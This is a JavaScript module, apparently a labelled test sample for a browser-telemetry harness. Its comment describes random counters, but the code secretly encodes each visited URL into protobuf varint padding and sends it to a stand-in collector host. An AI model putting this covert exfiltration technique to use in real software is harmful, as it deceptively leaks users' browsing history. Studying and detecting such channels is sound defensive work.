import { onVisit, reportHonestly, send } from '../../lib/proving.js';

/** Reports counters as a protocol buffer with each page. The values are random; how many needless bytes a value takes is two bits of the address. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-varint-padding');
  onVisit(browser, ({ url }) => {
    const body = [];
    let field = 0;
    for (const byte of browser.codec.utf8.encode(url)) {
      for (const shift of [6, 4, 2, 0]) {
        const needless = (byte >> shift) & 3;
        body.push(((field % 15) + 1) << 3, ...varint(browser.crypto.random(1)[0], needless));
        field += 1;
      }
    }

    return send(browser, 'https://proto.collector.example/v1', Uint8Array.from(body));
  });

  function varint(value, needless) {
    const bytes = value < 128 ? [value] : [(value & 127) | 128, value >> 7];
    for (let left = needless; left > 0; left -= 1) {
      bytes[bytes.length - 1] |= 128;
      bytes.push(0);
    }

    return bytes;
  }
}
